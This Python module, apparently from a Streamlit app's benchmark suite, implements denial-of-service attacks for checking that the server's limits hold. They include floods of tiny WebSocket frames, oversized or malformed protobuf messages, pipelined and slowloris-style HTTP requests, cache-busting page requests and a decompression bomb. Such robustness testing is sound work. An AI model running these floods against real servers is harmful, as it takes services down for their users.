"""Attacks beside those of the table: frames, messages and requests that cost a server more than their sender.

Each was tried before there was a limit against it; at twenty connections a click of others then took 3 to 20 seconds.
"""

from __future__ import annotations

import asyncio
import http.client
import itertools
import re
import socket
import time
import urllib.request
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress

from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.asyncio.client import ClientConnection
from websockets.exceptions import WebSocketException
from websockets.extensions.permessage_deflate import PerMessageDeflate
from websockets.frames import Frame, Opcode

from tests.benchmarks.load import resident
from tests.benchmarks.target import ATTACKER, MB, RERUN, Target

CITIES = ("Pune", "Mumbai", "Chennai", "Hyderabad", "Kolkata", "Noida", "Indore", "Jaipur", "Lucknow", "Ahmedabad")
FINISHED = "script_finished"
PIPELINED = 500
"""Requests that one connection sends before it reads an answer."""


def _frame(opcode: Opcode, content: bytes = b"", fin: bool = True) -> bytes:
    return Frame(opcode, content, fin).serialize(mask=True)


FRAMES = {
    "pings": _frame(Opcode.PING, b"x") * 500,
    "empty messages": _frame(Opcode.BINARY) * 500,
    "texts": _frame(Opcode.TEXT, b"x") * 500,
    "fragments": _frame(Opcode.BINARY, fin=False) + _frame(Opcode.CONT, b"x", fin=False) * 500,
}


async def tiny_frames(target: Target) -> str:
    """Connections send pings, empty messages, texts or fragments of a byte as fast as they can."""

    async def flood(frames: bytes) -> str:
        try:
            reader, writer = await target.handshake()
        except OSError:
            return "refused"
        end = time.perf_counter() + target.scale.seconds
        try:
            writer.write(_frame(Opcode.BINARY, RERUN))
            while time.perf_counter() < end and not reader.at_eof():
                writer.write(frames)
                await asyncio.wait_for(writer.drain(), 5)
                with suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1 << 16), 0.001)
        except (OSError, TimeoutError):
            return "closed"
        finally:
            writer.transport.abort()
        return "closed" if reader.at_eof() else "left open"

    kinds = itertools.islice(itertools.cycle(FRAMES.values()), target.scale.flooding)
    return _counted("connections", await asyncio.gather(*map(flood, kinds)))


async def deaf_visits(target: Target) -> str:
    """Connections ask for the page again and again, and never read what they are sent."""

    async def ask() -> None:
        try:
            _, writer = await target.handshake()
        except OSError:
            return
        end = time.perf_counter() + target.scale.seconds
        assert isinstance(writer.transport, asyncio.ReadTransport)
        writer.transport.pause_reading()
        with suppress(OSError):
            while time.perf_counter() < end:
                writer.write(_frame(Opcode.BINARY, RERUN))
                await asyncio.sleep(0.05)
        writer.transport.abort()

    await asyncio.gather(*(ask() for _ in range(target.scale.flooding)))
    return f"{target.scale.flooding} connections"


def _odd_messages() -> dict[str, BackMsg]:
    """Messages that no browser sends on these pages, each near the longest that is taken in."""
    widgets = BackMsg(rerun_script={})
    for number in range(4_000):
        widgets.rerun_script.widget_states.widgets.add(id=f"$$ID-{number}-None", string_value="x" * 30)
    nested = BackMsg(rerun_script={})
    nested.rerun_script.widget_states.widgets.add(id="$$ID-a-my_role", json_value="[" * 200_000)
    joined = "%E0%A5%8D%E2%80%AE%F0%9F%91%A8%E2%80%8D"  # signs that join, turn and cover others
    return {
        "empty all caches": BackMsg(clear_cache=True),
        "list the changed files": BackMsg(load_git_info=True),
        "a part that is not there": BackMsg(rerun_script={"fragment_id": "x" * 1_000}),
        "a page that is not there": BackMsg(rerun_script={"page_script_hash": "deadbeef" * 10_000}),
        "thousands of widgets": widgets,
        "lists in lists": nested,
        "thousands of files to send": BackMsg(file_urls_request={"file_names": [""] * 120_000}),
        "a long name": BackMsg(rerun_script={"query_string": "my_role=" + joined * 4_000}),
        "thousands of values": BackMsg(rerun_script={"query_string": "&".join(f"city={n}" for n in range(20_000))}),
        "thousands of parameters": BackMsg(rerun_script={"query_string": "".join(f"&p{n}=x" for n in range(20_000))}),
    }


async def odd_messages(target: Target) -> str:
    """Visits send messages that no browser sends, one after the other."""

    async def send(message: bytes) -> str:
        end = time.perf_counter() + target.scale.seconds
        try:
            async with target.socket() as connection:
                await connection.send(RERUN)
                while time.perf_counter() < end:
                    await connection.send(message)
                    with suppress(TimeoutError):
                        await asyncio.wait_for(connection.recv(), 0.05)
        except (WebSocketException, TimeoutError):
            return "closed"
        return "kept open"

    messages = [message.SerializeToString() for message in _odd_messages().values()]
    return _counted("kinds", await asyncio.gather(*map(send, messages)))


def _addresses() -> Iterator[str]:
    """Addresses of pages that nobody asked for before."""
    selections = itertools.combinations(CITIES, 4)
    for number, cities in enumerate(selections):
        filters = "&".join(f"city={city}" for city in cities)
        yield f"/overview?{filters}"
        yield f"/salary_bands?{filters}&by=city"
        yield f"/career_path?{filters}"
        yield f"/compare_cities?{filters.replace('city=', 'cities=')}"
        yield f"/check_salary?my_pay={20_000 + number}&my_city={cities[0]}"


async def new_answers(target: Target) -> str:
    """Pages are asked for at ever new addresses, each with an answer that has to be worked out for its HTML."""
    paths = list(_addresses())

    def ask(first: int) -> list[int]:
        statuses, end = [], time.perf_counter() + target.scale.seconds
        server = http.client.HTTPConnection(*target.place, timeout=60, source_address=(ATTACKER, 0))
        with suppress(OSError, http.client.HTTPException):
            for path in paths[first :: target.scale.flooding]:
                if time.perf_counter() > end:
                    break
                server.request("GET", path, headers={"Accept-Encoding": "br"})
                answer = server.getresponse()
                answer.read()
                statuses.append(answer.status)
        server.close()
        return statuses

    answers = await asyncio.gather(*(asyncio.to_thread(ask, place) for place in range(target.scale.flooding)))
    return _counted("pages", [str(status) for statuses in answers for status in statuses])


async def new_selections(target: Target) -> str:
    """Visits ask for ever new selections by clicks, each with answers that have to be worked out."""
    addresses = [path.partition("?")[::2] for path in _addresses()]

    async def ask(first: int) -> int:
        runs, end = 0, time.perf_counter() + target.scale.seconds
        with suppress(WebSocketException, TimeoutError):
            async with target.socket() as connection:
                await connection.send(RERUN)
                pages = await _pages(connection)
                for path, query in addresses[first :: target.scale.flooding]:
                    if time.perf_counter() > end:
                        break
                    request = {"query_string": query, "page_script_hash": pages.get(path.strip("/"), "")}
                    await connection.send(BackMsg(rerun_script=request).SerializeToString())
                    async with asyncio.timeout(60):
                        while ForwardMsg.FromString(await connection.recv(decode=False)).WhichOneof("type") != FINISHED:
                            pass
                    runs += 1
        return runs

    runs = await asyncio.gather(*map(ask, range(target.scale.flooding)))
    return f"{sum(runs)} selections in {len(runs)} visits"


async def _pages(connection: ClientConnection) -> dict[str, str]:
    """The keys of the pages by their addresses, from the first run of a visit; the first page's key may be left out."""
    pages: dict[str, str] = {}
    async with asyncio.timeout(60):
        while (answer := ForwardMsg.FromString(await connection.recv(decode=False))).WhichOneof("type") != FINISHED:
            if answer.WhichOneof("type") == "navigation":
                pages = {page.url_pathname: page.page_script_hash for page in answer.navigation.app_pages}
    return pages


async def requests_in_a_row(target: Target) -> str:
    """Connections send hundreds of requests before they read an answer, for parts of a file so that none is kept."""
    host, port = target.place

    def ask() -> int:
        answers, end = 0, time.perf_counter() + target.scale.seconds
        request = "GET /_stcore/health?{number} HTTP/1.1\r\nHost: {host}:{port}\r\nX-Long: {long}\r\n\r\n"
        with suppress(OSError), socket.create_connection((host, port), 30, (ATTACKER, 0)) as connection:
            connection.settimeout(1)
            for number in range(PIPELINED):
                connection.sendall(request.format(number=number, host=host, port=port, long="x" * 8_000).encode())
            while time.perf_counter() < end and (received := connection.recv(1 << 16)):
                answers += received.count(b"HTTP/1.1 200")
        return answers

    answers = await asyncio.gather(*(asyncio.to_thread(ask) for _ in range(target.scale.flooding)))
    return f"{PIPELINED * len(answers)} requests, {sum(answers)} answered"


async def slow_to_read(target: Target) -> str:
    """Connections send requests with thousands of tiny header fields, and bodies in chunks of a byte."""
    host, port = target.place
    start = f"GET /_stcore/health HTTP/1.1\r\nHost: {host}:{port}\r\n".encode()
    requests = (
        start + b"a:\r\n" * 15_000 + b"\r\n",
        start + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 40_000,
    )

    async def ask(content: bytes) -> int:
        answers, end = 0, time.perf_counter() + target.scale.seconds
        while time.perf_counter() < end:
            with suppress(OSError, TimeoutError):
                reader, writer = await target.connect()
                writer.write(content)
                answers += bool(await asyncio.wait_for(reader.readline(), 20))
                writer.transport.abort()
        return answers

    kinds = itertools.islice(itertools.cycle(requests), target.scale.flooding)
    answers = await asyncio.gather(*map(ask, kinds))
    return f"{sum(answers)} answers"


async def packed_messages(target: Target) -> str:
    """Connections send messages of 300 bytes that unpack to 256 kB, hang up and come again."""
    compression = PerMessageDeflate(True, True, 12, 12)
    packed = Frame(Opcode.BINARY, bytes(MB // 4 - 1)).serialize(mask=True, extensions=[compression])

    async def send() -> int:
        connections, end = 0, time.perf_counter() + target.scale.seconds
        while time.perf_counter() < end:
            with suppress(OSError, TimeoutError):
                reader, writer = await target.handshake(compresses=True)
                writer.write(packed * 250)
                await asyncio.wait_for(writer.drain(), 20)
                await asyncio.wait_for(reader.read(), 5)
                writer.transport.abort()
                connections += 1
        return connections

    connections = await asyncio.gather(*(send() for _ in range(target.scale.flooding)))
    return f"{sum(connections)} connections"


async def waiting_messages(target: Target) -> str:
    """Visits send long messages faster than they are taken in, and wait."""
    request = _frame(Opcode.BINARY, BackMsg(rerun_script={"query_string": "x" * 250_000}).SerializeToString())

    async def send() -> None:
        with suppress(OSError, TimeoutError):
            _, writer = await target.handshake()
            for _ in range(15):
                writer.write(request)
                await asyncio.wait_for(writer.drain(), 30)
            await asyncio.sleep(target.scale.seconds)
            writer.transport.abort()

    before = resident(target.pid)
    visits = [asyncio.create_task(send()) for _ in range(target.scale.visits)]
    await asyncio.sleep(target.scale.seconds)
    memory = resident(target.pid)
    await asyncio.gather(*visits)
    return f"{len(visits)} visits, {memory - before:.0f} MB more"


async def unread_answers(target: Target) -> str:
    """Connections ask for a large script and read nothing of it."""
    with urllib.request.urlopen(target.url) as page:
        scripts = re.findall(r"\./(static/js/[^\"]+\.js)", page.read().decode())
    host, port = target.place

    def ask() -> list[socket.socket]:
        connections = []
        request = f"GET /{scripts[0]} HTTP/1.1\r\nHost: {host}:{port}\r\nAccept-Encoding: br\r\n\r\n".encode()
        for _ in range(2 * target.scale.visits):
            with suppress(OSError):
                connection = socket.create_connection((host, port), 30, (ATTACKER, 0))
                connection.sendall(request)
                connections.append(connection)
        return connections

    before = resident(target.pid)
    connections = await asyncio.to_thread(ask)
    await asyncio.sleep(target.scale.seconds)
    memory = resident(target.pid)
    for connection in connections:
        connection.close()
    return f"{len(connections)} connections, {memory - before:.0f} MB more"


def _counted(subject: str, states: list[str]) -> str:
    return f"{len(states)} {subject}: " + ", ".join(f"{n} {state}" for state, n in Counter(states).items())


ATTACKS: dict[str, Callable[[Target], Awaitable[str]]] = {
    "tiny frames": tiny_frames,
    "visits that do not read": deaf_visits,
    "odd messages": odd_messages,
    "ever new answers": new_answers,
    "ever new selections": new_selections,
    "requests in a row": requests_in_a_row,
    "requests slow to read": slow_to_read,
    "packed messages": packed_messages,
    "messages that wait": waiting_messages,
    "answers not read": unread_answers,
}
LONG = (
    "visits that do not read",
    "ever new answers",
    "ever new selections",
    "requests in a row",
    "requests slow to read",
    "packed messages",
    "answers not read",
)
"""Those that are no part of the short form."""
